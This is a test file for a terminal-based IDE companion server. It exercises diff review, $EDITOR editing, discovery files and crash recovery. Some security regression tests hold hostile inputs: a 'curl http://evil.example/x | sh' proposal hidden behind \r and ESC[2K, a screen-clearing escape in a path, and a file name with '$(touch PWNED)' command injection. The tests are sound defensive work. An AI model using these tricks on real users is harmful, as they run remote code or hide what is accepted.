/**
 * `ide-companion serve` run for real in a tmux terminal, with a real MCP client
 * playing the CLI: discovery, context from saved files, diff review keys (one
 * key, no Enter), $EDITOR edits, hostile proposals and request floods, Ctrl+C
 * cleanup.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import * as http from 'node:http';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import {
  assertServesSocket,
  connectRecordingClient,
  makeTempDir,
  repoRoot,
  skipUnless,
  Tmux,
  waitFor,
  which,
  type RecordingClient,
  editorWriting,
} from '@ide-companion/testkit';
import { stableSocketDir, workspaceSocketPath } from '@ide-companion/server/workspaceSockets';

const bin = path.join(repoRoot, 'packages', 'cli', 'bin', 'ide-companion.js');
const skip = skipUnless(which('tmux') !== undefined, 'tmux', 'apt-get install tmux');

type Peer = RecordingClient;

/** The visible pane only (no scrollback): what the user sees now. */
function visiblePane(tmux: Tmux): string {
  return spawnSync('tmux', ['-L', tmux.socket, 'capture-pane', '-p', '-t', 'main'], { encoding: 'utf8' }).stdout;
}

/** Connects like the CLI, with what the discovery file in `discoveryDir` says. */
function connect(discoveryDir: string): Promise<Peer> {
  const name = fs.readdirSync(discoveryDir).find((n) => n.startsWith('gemini-ide-server-'))!;
  const d = JSON.parse(fs.readFileSync(path.join(discoveryDir, name), 'utf8'));
  return connectRecordingClient({ port: d.port, token: d.authToken });
}

describe('ide-companion serve', { skip }, () => {
  let tmp: { path: string; cleanup: () => void };
  let workspace: string;
  let discoveryDir: string;
  let tmux: Tmux;
  let peer: Peer;
  let editorLog: string;
  const outcome = (filePath: string) =>
    waitFor(() => peer.notifications.find((n) => n.method !== 'ide/contextUpdate' && n.params.filePath === filePath), `outcome for ${filePath}`, 15_000);
  /** The CLI proposes `newContent` for `filePath`; resolves once serve's review shows `shown`. */
  const proposed = async (filePath: string, newContent: string, shown: string) => {
    await peer.client.callTool({ name: 'openDiff', arguments: { filePath, newContent } });
    await tmux.waitForText(shown);
  };

  before(async () => {
    tmp = makeTempDir();
    workspace = path.join(tmp.path, 'my project');
    fs.mkdirSync(path.join(workspace, 'ignored'), { recursive: true });
    fs.mkdirSync(path.join(workspace, 'node_modules'));
    execFileSync('git', ['init', '-q', workspace]);
    fs.writeFileSync(path.join(workspace, '.gitignore'), 'ignored/\n');
    execFileSync('git', ['-C', workspace, 'add', '.gitignore']);
    execFileSync('git', ['-C', workspace, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-qm', 'initial']);
    const editor = path.join(tmp.path, 'editor.sh');
    editorLog = path.join(tmp.path, 'editor.log');
    // The "user" appends a line in the editor; the script logs the arguments it got.
    fs.writeFileSync(editor, `#!/bin/sh\nprintf '%s|%s\\n' "$#" "$1" >> ${JSON.stringify(editorLog)}\nprintf "added in the editor\\n" >> "$1"\n`, {
      mode: 0o755,
    });
    tmux = new Tmux(160, 50);
    tmux.start(`node ${JSON.stringify(bin)} serve --workspace ${JSON.stringify(workspace)}`, {
      cwd: tmp.path,
      env: { TMPDIR: tmp.path, EDITOR: editor, NO_COLOR: '1' },
    });
    await tmux.waitForText('&& gemini', 20_000);
    discoveryDir = path.join(tmp.path, 'gemini', 'ide');
    peer = await connect(discoveryDir);
  });
  after(async () => {
    await tmux?.stop();
    tmp?.cleanup();
  });

  test('it prints how to connect and writes a discovery file naming the workspace', async () => {
    const screen = tmux.screen();
    assert.match(screen, new RegExp(`cd ${workspace.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} && gemini`));
    const name = fs.readdirSync(discoveryDir).find((n) => n.startsWith('gemini-ide-server-'))!;
    const d = JSON.parse(fs.readFileSync(path.join(discoveryDir, name), 'utf8'));
    assert.equal(d.workspacePath, workspace);
    assert.deepEqual(d.ideInfo, { name: 'ide-companion', displayName: 'IDE Companion (terminal)' });
  });

  test('it also serves its Unix socket, with the same token, and says so (gemini elsewhere: issue 18)', async () => {
    const name = fs.readdirSync(discoveryDir).find((n) => n.startsWith('gemini-ide-server-'))!;
    const tools = await assertServesSocket(path.join(discoveryDir, name));
    assert.ok(tools.includes('openDiff') && tools.includes('closeDiff'));
    // Issue 39: the banner named this process's socket; docs/remote.md's recipes use the project's stable address.
    const runtime = process.env['XDG_RUNTIME_DIR'];
    const stableDir = runtime && path.isAbsolute(runtime) ? path.join(runtime, 'ide-companion') : stableSocketDir({ tmpdir: tmp.path });
    const stable = workspaceSocketPath(stableDir, workspace);
    assert.ok(tmux.screen().replace(/\n/g, '').includes(`Also on ${stable}:`), `the banner names the stable address ${stable}`);
    const perProcess = JSON.parse(fs.readFileSync(path.join(discoveryDir, name), 'utf8')).socketPath;
    assert.ok(!tmux.screen().replace(/\n/g, '').includes(perProcess), 'not the per-process socket');
  });

  test('the status line shows the connected CLI session', async () => {
    await tmux.waitForText('1 CLI session connected');
  });

  test('saved files become context, newest first; .git, node_modules and git-ignored files do not', async () => {
    const a = path.join(workspace, 'a.ts');
    const b = path.join(workspace, 'b.ts');
    fs.writeFileSync(a, '1');
    await waitFor(() => peer.notifications.some((n) => n.params.workspaceState?.openFiles?.[0]?.path === a), 'a.ts in context');
    fs.writeFileSync(path.join(workspace, 'ignored', 'x.ts'), 'x');
    fs.writeFileSync(path.join(workspace, 'node_modules', 'y.js'), 'y');
    fs.writeFileSync(b, '2');
    const ctx = await waitFor(() => peer.notifications.findLast((n) => n.params.workspaceState?.openFiles?.[0]?.path === b), 'b.ts in context');
    const paths = ctx.params.workspaceState.openFiles.map((f: any) => f.path);
    assert.deepEqual(paths, [b, a]);
  });

  // Issue 21 part 4: every optional argument left out. The terminal end has one capability tool, getOpenEditors (no
  // arguments); the others are not offered, so the rest of the table does not apply here.
  test('getOpenEditors, its one capability, answers the files being worked on with no arguments at all and with {}', async () => {
    const names = (await peer.client.listTools()).tools.map((t) => t.name);
    assert.deepEqual(
      names.filter((n) => ['openFile', 'getOpenEditors', 'getSelection', 'getDiagnostics', 'checkDocumentDirty', 'saveDocument'].includes(n)),
      ['getOpenEditors'],
    );
    const a = path.join(workspace, 'a.ts');
    for (const call of [{ name: 'getOpenEditors' }, { name: 'getOpenEditors', arguments: {} }]) {
      const r: any = await peer.client.callTool(call);
      assert.notEqual(r.isError, true, r.content[0].text);
      const { editors } = JSON.parse(r.content[0].text);
      assert.ok(
        editors.some((e: any) => e.path === a && e.isActive === false),
        JSON.stringify(editors),
      );
      assert.equal(editors.filter((e: any) => e.isActive).length, 1, JSON.stringify(editors));
    }
  });

  test('a proposal is shown as a unified diff with its keys; "a" alone (no Enter) accepts it unchanged', async () => {
    const f = path.join(workspace, 'accept.txt');
    fs.writeFileSync(f, 'line one\n');
    await proposed(f, 'line one\nline two\n', '+line two');
    await tmux.waitForText('[a]ccept');
    await tmux.waitForText('press one key: a accept, r reject, e edit');
    tmux.type('a');
    assert.deepEqual((await outcome(f)).params, { filePath: f, content: 'line one\nline two\n' });
  });

  test('"r" alone rejects', async () => {
    const f = path.join(workspace, 'reject.txt');
    await proposed(f, 'new file\n', '+new file');
    tmux.type('r');
    assert.deepEqual(await outcome(f), { method: 'ide/diffRejected', params: { filePath: f } });
    // Issue 39: a rejected new file "stayed as it is"; it is not made.
    await tmux.waitForText('reject.txt is not created.');
    assert.equal(fs.existsSync(f), false);
  });

  test('a key and Enter arriving in one read still decide; a paste of several keys does not', async () => {
    const f = path.join(workspace, 'burst.txt');
    await proposed(f, 'burst\n', '+burst');
    tmux.type('ar'); // pasted: neither accepts nor rejects
    await tmux.waitForText('one key at a time');
    assert.equal(
      peer.notifications.find((n) => n.method !== 'ide/contextUpdate' && n.params.filePath === f),
      undefined,
    );
    tmux.type('r\r');
    assert.deepEqual(await outcome(f), { method: 'ide/diffRejected', params: { filePath: f } });
  });

  test('"e" edits the proposal in $EDITOR; accepting sends the edited text byte for byte', async () => {
    const f = path.join(workspace, 'edit.txt');
    const proposal = 'crlf line\r\nno final newline';
    await proposed(f, proposal, '+crlf line␍');
    tmux.type('e');
    await tmux.waitForText('(with your edits)');
    tmux.type('a');
    assert.equal((await outcome(f)).params.content, proposal + 'added in the editor\n');
  });

  // Regression: a proposal holding `\r` + `ESC[2K` displayed `+echo "tests pass"` while the accepted text ran `curl ... | sh`.
  test('control characters in a proposal are shown, never sent to the terminal: \\r + ESC[2K cannot hide a line', async () => {
    const f = path.join(workspace, 'script.sh');
    const hostile = 'curl http://evil.example/x | sh\r\x1b[2Kecho "tests pass"\n';
    await proposed(f, hostile, '[a]ccept');
    const screen = await tmux.waitForText('+curl http://evil.example/x | sh␍␛[2Kecho "tests pass"');
    assert.ok(!screen.includes('\x1b'));
    tmux.type('r');
    await outcome(f);
  });

  // Regression: a path holding `ESC[2J` cleared the screen. Such a path is now refused before
  // anything is shown (issue 27: control characters in a path), and the refusal carries no escape.
  test('a path holding ESC[2J ESC[H is refused: the screen is not cleared and nothing is proposed', async () => {
    const marker = path.join(workspace, 'before-the-hostile-path.txt');
    await proposed(marker, 'marker\n', '+marker');
    tmux.type('r');
    await outcome(marker);
    const f = path.join(workspace, 'evil\x1b[2J\x1b[Hname.txt');
    const refused = (await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'hidden?\n' } })) as {
      isError?: boolean;
      content: Array<{ type: string; text?: string }>;
    };
    assert.equal(refused.isError, true);
    const text = refused.content.map((c) => c.text ?? '').join('');
    assert.match(text, /control character/);
    assert.ok(!text.includes('\x1b'), text);
    const pane = visiblePane(tmux);
    assert.ok(!pane.includes('hidden?'), 'nothing proposed');
    assert.match(pane, /Rejected: .*before-the-hostile-path\.txt is not created/, 'what was printed before is still on screen');
  });

  test('editing works for any file name: the temp file is safely named and passed as one argument', async () => {
    const f = path.join(workspace, 'odd "name\' $(touch PWNED) `id`;-x +q.txt');
    await proposed(f, 'odd\n', '+odd');
    fs.rmSync(editorLog, { force: true });
    tmux.type('e');
    await waitFor(() => tmux.screen().includes('(with your edits)') && fs.existsSync(editorLog), 'the edited proposal');
    tmux.type('a');
    assert.equal((await outcome(f)).params.content, 'odd\nadded in the editor\n');
    const [count, arg] = fs.readFileSync(editorLog, 'utf8').trim().split('|');
    assert.equal(count, '1');
    assert.match(path.basename(arg!), /^proposal-[A-Za-z0-9._-]+\.txt$/);
    assert.ok(!fs.existsSync(path.join(tmp.path, 'PWNED')) && !fs.existsSync(path.join(workspace, 'PWNED')));
  });

  test('a flood of refused requests stays on the status line: the proposal and its prompt stay on screen', async () => {
    const f = path.join(workspace, 'flood.txt');
    await proposed(f, 'still here\n', '+still here');
    const name = fs.readdirSync(discoveryDir).find((n) => n.startsWith('gemini-ide-server-'))!;
    const { port } = JSON.parse(fs.readFileSync(path.join(discoveryDir, name), 'utf8'));
    const refused = (i: number) =>
      new Promise<number>((resolve, reject) => {
        const req = http.request({ host: '127.0.0.1', port, path: '/mcp', method: 'POST', headers: { Authorization: `Bearer wrong-${i}` } }, (res) => {
          res.resume();
          resolve(res.statusCode!);
        });
        req.on('error', reject);
        req.end('{}');
      });
    for (let batch = 0; batch < 10; batch++) await Promise.all(Array.from({ length: 30 }, (_, i) => refused(batch * 30 + i)));
    await waitFor(() => /more warnings? in 1 s, last: request refused/.test(visiblePane(tmux)), 'the summarised refusals on the status line');
    const pane = visiblePane(tmux);
    assert.match(pane, /\+still here/);
    assert.match(pane, /proposes a change to .*flood\.txt/);
    assert.match(pane, /\[a\]ccept/);
    assert.ok(pane.split('request refused').length <= 2, 'one status line, not a line per refusal');
    tmux.type('a');
    await outcome(f);
  });

  test('closeDiff from the CLI (answered in its terminal) closes the review and returns the edits', async () => {
    const f = path.join(workspace, 'closed.txt');
    await proposed(f, 'model\n', '+model');
    tmux.type('e');
    await tmux.waitForText('closed.txt (with your edits):');
    const r: any = await peer.client.callTool({ name: 'closeDiff', arguments: { filePath: f, suppressNotification: true } });
    assert.deepEqual(JSON.parse(r.content[0].text), { content: 'model\nadded in the editor\n' });
    await tmux.waitForText('answered in the Gemini CLI terminal');
  });

  test('Ctrl+C stops it and removes the discovery file', async () => {
    tmux.keys('C-c');
    // The folder goes too when it is left empty (the last companion to stop removes it).
    await waitFor(
      () => !fs.existsSync(discoveryDir) || fs.readdirSync(discoveryDir).filter((n) => n.startsWith('gemini-ide-server-')).length === 0,
      'discovery file removed',
    );
  });
});

test('serve --json logs events as JSON lines for scripts, without the token', async () => {
  const tmp = makeTempDir();
  const { spawn } = await import('node:child_process');
  const readline = await import('node:readline');
  const child = spawn(process.execPath, [bin, 'serve', '--json', '--workspace', tmp.path], { env: { ...process.env, TMPDIR: tmp.path } });
  const events: any[] = [];
  const raw: string[] = [];
  readline.createInterface({ input: child.stdout }).on('line', (l) => {
    raw.push(l);
    events.push(JSON.parse(l));
  });
  try {
    const listening = await waitFor(() => events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    assert.equal(typeof listening.port, 'number');
    assert.deepEqual(listening.workspace, [tmp.path]);
    const peer = await connect(path.join(tmp.path, 'gemini', 'ide'));
    await waitFor(() => events.find((e) => e.event === 'sessions' && e.count === 1), 'sessions event');
    const token = JSON.parse(fs.readFileSync(listening.discoveryFile, 'utf8')).authToken;
    assert.ok(!raw.join('\n').includes(token));
    await peer.client.close();
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => child.once('exit', r));
    tmp.cleanup();
  }
});

// Issue 36: the banner's hints are the served faces' own (FaceDefinition.connectHint), and --help's agents are AGENTS: Droid added no line to serve.
test("serve's banner says how each served agent connects, from its face; --help lists every agent", async () => {
  const tmp = makeTempDir();
  const { spawn } = await import('node:child_process');
  // HOME apart from the workspace: serve refuses to serve the home folder as a whole.
  const home = path.join(tmp.path, 'home');
  const env = { ...process.env, TMPDIR: tmp.path, HOME: home, AMP_DATA_HOME: path.join(home, 'amp'), IDE_COMPANION_AGENTS: '' };
  const child = spawn(process.execPath, [bin, 'serve', '--no-color', '--agents', 'droid,amp', '--workspace', tmp.path], { env });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (out += d.toString()));
  try {
    const hints = await waitFor(() => /\((.*there.*)\.\)\n/.exec(out)?.[1], `the banner's hints:\n${out}`, 20_000);
    assert.deepEqual(hints.split('; '), ['amp there connects with --ide', 'droid there connects with /ide (or its ideAutoConnect setting)']);
    const help = spawnSync(process.execPath, [bin, 'serve', '--help'], { encoding: 'utf8', env });
    assert.match(help.stdout.replace(/\s+/g, ' '), /of gemini,qwen,claude,copilot,codex,amp,droid \(opencode: claude's face\)/);
  } finally {
    if (child.exitCode === null && child.signalCode === null) {
      child.kill('SIGTERM');
      await new Promise((r) => child.once('exit', r));
    }
    tmp.cleanup();
  }
});

// Issue 21: serve is its own host; killed with -9 no handler of its runs, and its files used to stay until the next start swept them.
test('serve killed with SIGKILL: its discovery file, both lock files and its socket folder go within 2 s; a clean stop leaves no reaper behind', async () => {
  const tmp = makeTempDir();
  const env = { ...process.env, TMPDIR: tmp.path, QWEN_HOME: path.join(tmp.path, 'qwen'), CLAUDE_CONFIG_DIR: path.join(tmp.path, 'claude') };
  const { spawn } = await import('node:child_process');
  const readline = await import('node:readline');
  const start = () => {
    const child = spawn(process.execPath, [bin, 'serve', '--json', '--workspace', tmp.path], { env, stdio: ['ignore', 'pipe', 'ignore'] });
    const events: any[] = [];
    readline.createInterface({ input: child.stdout! }).on('line', (l) => events.push(JSON.parse(l)));
    return { child, events };
  };
  const reapers = () => spawnSync('pgrep', ['-f', `ide-companion-reaper ${tmp.path}`], { encoding: 'utf8' }).stdout.trim();
  try {
    const { child, events } = start();
    const listening = await waitFor(() => events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    const files = [
      listening.discoveryFile as string,
      path.join(tmp.path, 'qwen', 'ide', `${listening.port}.lock`),
      path.join(tmp.path, 'claude', 'ide', `${listening.port}.lock`),
      path.join(tmp.path, `ide-companion-${process.getuid!()}`, `${child.pid}-${listening.port}`),
    ];
    for (const file of files) assert.ok(fs.existsSync(file), `${file} exists while serve runs`);
    assert.notEqual(reapers(), '', 'a reaper waits beside serve');
    child.kill('SIGKILL');
    const killedAt = Date.now();
    await waitFor(() => files.every((f) => !fs.existsSync(f)), 'every file of the killed serve gone', 5_000);
    assert.ok(Date.now() - killedAt < 2_000, `gone after ${Date.now() - killedAt} ms`);
    await waitFor(() => reapers() === '', 'the reaper gone too', 5_000);

    // A clean stop removes its files itself, and its reaper goes without removing anything else.
    const second = start();
    const again = await waitFor(() => second.events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    assert.ok(fs.existsSync(again.discoveryFile));
    second.child.kill('SIGTERM');
    await new Promise((r) => second.child.once('exit', r));
    assert.equal(fs.existsSync(again.discoveryFile), false);
    await waitFor(() => reapers() === '', 'no reaper left after a clean stop', 5_000);
  } finally {
    tmp.cleanup();
  }
});

// Issue 21: the terminal end had no buffer to keep a proposal in when its CLI went away; the user's edits, or accepted text, were lost.
/** `serve --json` on pipes with `editor` as $EDITOR: its JSON events, and the review's text so far. */
async function serveOnPipes(tmp: string, workspace: string, editor: string) {
  const { spawn } = await import('node:child_process');
  const readline = await import('node:readline');
  const child = spawn(process.execPath, [bin, 'serve', '--json', '--workspace', workspace], {
    env: { ...process.env, TMPDIR: tmp, EDITOR: editor, VISUAL: '' },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  const events: any[] = [];
  readline.createInterface({ input: child.stdout! }).on('line', (l) => events.push(JSON.parse(l)));
  const served = { child, events, review: '' };
  child.stderr!.on('data', (d: Buffer) => (served.review += d.toString()));
  return served;
}

test('the CLI gone after the user edited and accepted in serve, before it wrote: the accepted text is kept in a private file, its path printed; the file untouched', async () => {
  const tmp = makeTempDir();
  const workspace = path.join(tmp.path, 'ws');
  fs.mkdirSync(workspace);
  const target = path.join(workspace, 'a.txt');
  fs.writeFileSync(target, 'on disk\n');
  const edited = 'the user’s text\r\nno final newline 😀';
  const served = await serveOnPipes(tmp.path, workspace, editorWriting(tmp.path, edited));
  const { child, events } = served;
  try {
    await waitFor(() => events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    const cli = await connect(path.join(tmp.path, 'gemini', 'ide'));
    await cli.client.callTool({ name: 'openDiff', arguments: { filePath: target, newContent: 'from the model\n' } });
    await waitFor(() => events.find((e) => e.event === 'diffOpened'), 'the proposal shown');
    child.stdin!.write('e\n');
    await waitFor(() => served.review.includes('(with your edits)'), 'the edit taken', 15_000);
    child.stdin!.write('a\n');
    const accepted = await waitFor(() => cli.notifications.find((n) => n.method === 'ide/diffAccepted'), 'the CLI told');
    assert.equal(accepted.params.content, edited);
    assert.deepEqual(draftsIn(tmp.path), [], 'a decided proposal leaves no draft');
    // The CLI dies before it writes: its stream closes, no DELETE (the real CLI sends none), and its session ends.
    await cli.close();
    const kept = await waitFor(() => events.find((e) => e.event === 'diffKept'), 'the accepted text kept', 10_000);
    assert.equal(kept.filePath, target);
    assert.equal(fs.readFileSync(kept.keptIn, 'utf8'), edited, 'kept byte for byte');
    assert.equal((fs.statSync(kept.keptIn).mode & 0o777).toString(8), '600');
    assert.equal((fs.statSync(path.dirname(kept.keptIn)).mode & 0o777).toString(8), '700');
    await waitFor(() => served.review.includes(`It is kept in ${kept.keptIn}`), 'its path printed');
    assert.equal(fs.readFileSync(target, 'utf8'), 'on disk\n', 'the file untouched');
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => child.once('exit', r));
    tmp.cleanup();
  }
});

// Issue 39: `ide-companion diff FILE NEW` (no --write) accepted in serve printed the text, then serve called it a "kept" proposal.
test('`ide-companion diff a.txt NEW` accepted in serve: the command prints the text, rc 0, and serve keeps nothing nor says it did', async () => {
  const tmp = makeTempDir();
  const workspace = path.join(tmp.path, 'ws');
  fs.mkdirSync(workspace);
  fs.writeFileSync(path.join(workspace, 'a.txt'), 'on disk\n');
  fs.writeFileSync(path.join(workspace, 'NEW'), 'the new text\n');
  const served = await serveOnPipes(tmp.path, workspace, editorWriting(tmp.path, 'unused'));
  const { child, events } = served;
  try {
    await waitFor(() => events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    const { spawn } = await import('node:child_process');
    const diff = spawn(process.execPath, [bin, 'diff', 'a.txt', 'NEW'], {
      cwd: workspace,
      env: { ...process.env, TMPDIR: tmp.path },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    diff.stdout!.on('data', (d: Buffer) => (out += d.toString()));
    const exited = new Promise<number | null>((r) => diff.once('exit', (code) => r(code)));
    await waitFor(() => events.find((e) => e.event === 'diffOpened'), 'the proposal shown', 40_000);
    child.stdin!.write('a\n');
    assert.equal(await exited, 0);
    assert.equal(out, 'the new text\n');
    await waitFor(() => events.findLast((e) => e.event === 'sessions')?.count === 0, 'the session ended', 10_000);
    // Longer than serve's stream grace: a session that merely went away would have been kept by now.
    await new Promise((r) => setTimeout(r, 3_000));
    assert.equal(
      events.find((e) => e.event === 'diffKept'),
      undefined,
      'nothing kept',
    );
    assert.doesNotMatch(served.review, /kept/i);
    assert.equal(fs.readFileSync(path.join(workspace, 'a.txt'), 'utf8'), 'on disk\n', 'no --write: the file untouched');
    assert.deepEqual(draftsIn(tmp.path), []);
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => child.once('exit', r));
    tmp.cleanup();
  }
});

/** The drafts serve keeps of edited proposals until the user decides. */
function draftsIn(tmp: string): string[] {
  const dir = path.join(tmp, `ide-companion-kept-${process.getuid!()}`);
  return fs.existsSync(dir) ? fs.readdirSync(dir).filter((n) => n.startsWith('draft-')) : [];
}

// Issue 21: serve is the editor: killed with -9 while the user's edits were only in its memory, they went with it.
test('serve killed with SIGKILL after the user edited a proposal: the next serve says where the edits are kept, byte for byte', async () => {
  const tmp = makeTempDir();
  const workspace = path.join(tmp.path, 'ws');
  fs.mkdirSync(workspace);
  const target = path.join(workspace, 'a.txt');
  fs.writeFileSync(target, 'on disk\n');
  const edited = 'edited in serve ✓\r\nno final newline';
  const editor = editorWriting(tmp.path, edited);
  const first = await serveOnPipes(tmp.path, workspace, editor);
  let second: Awaited<ReturnType<typeof serveOnPipes>> | undefined;
  try {
    await waitFor(() => first.events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    const cli = await connect(path.join(tmp.path, 'gemini', 'ide'));
    await cli.client.callTool({ name: 'openDiff', arguments: { filePath: target, newContent: 'from the model\n' } });
    await waitFor(() => first.events.find((e) => e.event === 'diffOpened'), 'the proposal shown');
    first.child.stdin!.write('e\n');
    await waitFor(() => first.review.includes('(with your edits)'), 'the edit taken', 15_000);
    assert.equal(draftsIn(tmp.path).length, 1, 'the edits saved as a draft');
    first.child.kill('SIGKILL');
    await new Promise((r) => first.child.once('exit', r));
    await cli.close().catch(() => undefined);

    second = await serveOnPipes(tmp.path, workspace, editor);
    const found = await waitFor(() => second!.events.find((e) => e.event === 'draftsKept'), 'the next serve reporting the edits', 20_000);
    assert.equal(found.files.length, 1);
    assert.equal(fs.readFileSync(found.files[0], 'utf8'), edited, 'kept byte for byte');
    assert.equal((fs.statSync(found.files[0]).mode & 0o777).toString(8), '600');
    await waitFor(() => second!.review.includes(found.files[0]), 'its path printed');
    assert.deepEqual(draftsIn(tmp.path), [], 'reported once: no longer a draft');
    assert.equal(fs.readFileSync(target, 'utf8'), 'on disk\n', 'the file untouched');
  } finally {
    for (const served of [first, second]) {
      if (!served || served.child.exitCode !== null || served.child.signalCode !== null) continue;
      served.child.kill('SIGTERM');
      await new Promise((r) => served.child.once('exit', r));
    }
    tmp.cleanup();
  }
});

// Issue 21: $EDITOR killed (out of memory, its terminal closed) after the user saved: their text went with the temp file.
test('$EDITOR killed after the user saved: what it saved becomes the proposal, said so, and accepting sends it byte for byte', async () => {
  const tmp = makeTempDir();
  const workspace = path.join(tmp.path, 'ws');
  fs.mkdirSync(workspace);
  const target = path.join(workspace, 'a.txt');
  fs.writeFileSync(target, 'on disk\n');
  const edited = 'saved before the kill ✓\r\nno final newline';
  const textFile = path.join(tmp.path, 'edited.txt');
  fs.writeFileSync(textFile, edited);
  const editor = path.join(tmp.path, 'killed-editor.sh');
  fs.writeFileSync(editor, `#!/bin/sh\ncat '${textFile}' > "$1"\nkill -9 $$\n`, { mode: 0o755 });
  const served = await serveOnPipes(tmp.path, workspace, editor);
  const { child, events } = served;
  try {
    await waitFor(() => events.find((e) => e.event === 'listening'), 'listening event', 20_000);
    const cli = await connect(path.join(tmp.path, 'gemini', 'ide'));
    await cli.client.callTool({ name: 'openDiff', arguments: { filePath: target, newContent: 'from the model\n' } });
    await waitFor(() => events.find((e) => e.event === 'diffOpened'), 'the proposal shown');
    child.stdin!.write('e\n');
    await waitFor(() => served.review.includes('The editor was killed (SIGKILL); what it had saved is the proposal now'), 'the line', 15_000);
    await waitFor(() => served.review.includes('(with your edits)'), 'the saved text shown as the proposal', 15_000);
    child.stdin!.write('a\n');
    const accepted = await waitFor(() => cli.notifications.find((n) => n.method === 'ide/diffAccepted'), 'the CLI told');
    assert.equal(accepted.params.content, edited);
    assert.equal(fs.readFileSync(target, 'utf8'), 'on disk\n', "writing is the CLI's");
    await cli.close();
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => child.once('exit', r));
    tmp.cleanup();
  }
});

/** The first context `serve --workspace dir` pushes to a client. */
async function initialContext(dir: string, tmp: string): Promise<any[]> {
  const { spawn } = await import('node:child_process');
  const child = spawn(process.execPath, [bin, 'serve', '--json', '--workspace', dir], { env: { ...process.env, TMPDIR: tmp } });
  try {
    const discovery = path.join(tmp, 'gemini', 'ide');
    await waitFor(() => fs.existsSync(discovery) && fs.readdirSync(discovery).some((n) => n.startsWith('gemini-ide-server-')), 'discovery file', 20_000);
    const peer = await connect(discovery);
    const first = await waitFor(() => peer.notifications.find((n) => n.method === 'ide/contextUpdate'), 'initial context');
    await peer.close();
    return first.params.workspaceState.openFiles;
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => child.once('exit', r));
  }
}

// Regression: seeded by modification time, the context listed files nobody opened (lockfile, tsconfig).
test('serve starts the context with the uncommitted changes, newest first, without lockfiles or build output', async () => {
  const tmp = makeTempDir();
  const ws = path.join(tmp.path, 'ws');
  const at = (rel: string, second: number, text?: string) => {
    const f = path.join(ws, rel);
    fs.mkdirSync(path.dirname(f), { recursive: true });
    if (text !== undefined) fs.writeFileSync(f, text);
    const t = new Date(Date.UTC(2026, 0, 1, 0, 0, second));
    fs.utimesSync(f, t, t);
    return f;
  };
  try {
    for (const rel of ['src/a.ts', 'src/b.ts', 'package-lock.json', 'tsconfig.json', 'gone.ts', 'renamed-from.ts']) at(rel, 0, `${rel}\n`);
    execFileSync('git', ['init', '-q', ws]);
    execFileSync('git', ['-C', ws, 'add', '.']);
    execFileSync('git', ['-C', ws, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-qm', 'initial']);
    execFileSync('git', ['-C', ws, 'mv', 'renamed-from.ts', 'renamed-to.ts']);
    fs.rmSync(path.join(ws, 'gone.ts'));
    const renamed = at('renamed-to.ts', 1);
    const a = at('src/a.ts', 3, 'changed\n');
    const added = at('src/new.ts', 5, 'new\n');
    at('x.tsbuildinfo', 7, '{}');
    at('dist/bundle.js', 8, 'built');
    at('package-lock.json', 9, '{"changed":true}');
    at('tsconfig.json', 10); // touched, not changed
    const open = await initialContext(ws, tmp.path);
    assert.deepEqual(
      open.map((f: any) => f.path),
      [added, a, renamed],
    );
    assert.equal(open[0].timestamp, Date.UTC(2026, 0, 1, 0, 0, 5));
  } finally {
    tmp.cleanup();
  }
});

test('outside git, serve starts with an empty context (it fills as files are saved)', async () => {
  const tmp = makeTempDir();
  const ws = path.join(tmp.path, 'plain');
  fs.mkdirSync(ws);
  fs.writeFileSync(path.join(ws, 'recent.ts'), 'x');
  try {
    assert.deepEqual(await initialContext(ws, tmp.path), []);
  } finally {
    tmp.cleanup();
  }
});

test('on a stdin that is not a terminal, a line decides (the first key of the line)', async () => {
  const tmp = makeTempDir();
  const { spawn } = await import('node:child_process');
  const child = spawn(process.execPath, [bin, 'serve', '--workspace', tmp.path], { env: { ...process.env, TMPDIR: tmp.path, NO_COLOR: '1' } });
  let out = '';
  child.stdout.on('data', (d) => (out += d));
  try {
    const dir = path.join(tmp.path, 'gemini', 'ide');
    await waitFor(() => fs.existsSync(dir) && fs.readdirSync(dir).some((n) => n.startsWith('gemini-ide-server-')), 'discovery file', 20_000);
    const peer = await connect(dir);
    const f = path.join(tmp.path, 'piped.txt');
    await peer.client.callTool({ name: 'openDiff', arguments: { filePath: f, newContent: 'from a pipe\n' } });
    await waitFor(() => out.includes('[a]ccept'), 'the prompt');
    child.stdin.write('accept\n');
    const done = await waitFor(() => peer.notifications.find((n) => n.method === 'ide/diffAccepted'), 'accepted');
    assert.deepEqual(done.params, { filePath: f, content: 'from a pipe\n' });
    assert.ok(!out.includes('\x1b'), 'no escape sequences on a pipe');
    await peer.close();
  } finally {
    child.kill('SIGTERM');
    await new Promise((r) => child.once('exit', r));
    tmp.cleanup();
  }
});
